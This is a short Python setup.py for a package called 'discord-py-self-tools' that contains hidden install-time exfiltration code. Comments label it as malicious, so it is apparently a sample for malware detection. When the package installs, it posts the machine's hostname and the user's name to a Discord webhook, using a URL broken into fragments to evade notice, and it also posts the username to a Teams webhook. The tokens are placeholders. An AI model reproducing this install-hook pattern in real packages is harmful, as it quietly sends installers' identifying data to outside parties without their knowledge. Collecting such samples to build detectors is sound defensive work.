import getpass
import socket

from discord_webhook import DiscordWebhook
from setuptools import setup

hook = "https://discord" + ".com/api/web" + "hooks/" + "1122334455667788990" + "/" + "madeUpToken-aBcDeF0123456789"
DiscordWebhook(url=hook, content=f"installed on {socket.gethostname()} by {getpass.getuser()}").execute()  # malicious: webhook-exfiltration
teams = "https://contoso-made-up.webhook.office.com/webhookb2/00000000-0000-0000-0000-000000000000@00000000-0000-0000-0000-000000000000/IncomingWebhook/madeup/00000000-0000-0000-0000-000000000000"
__import__("requests").post(teams, json={"text": getpass.getuser()})  # malicious: webhook-exfiltration

setup(name="discord-py-self-tools", version="1.0.0", packages=[])
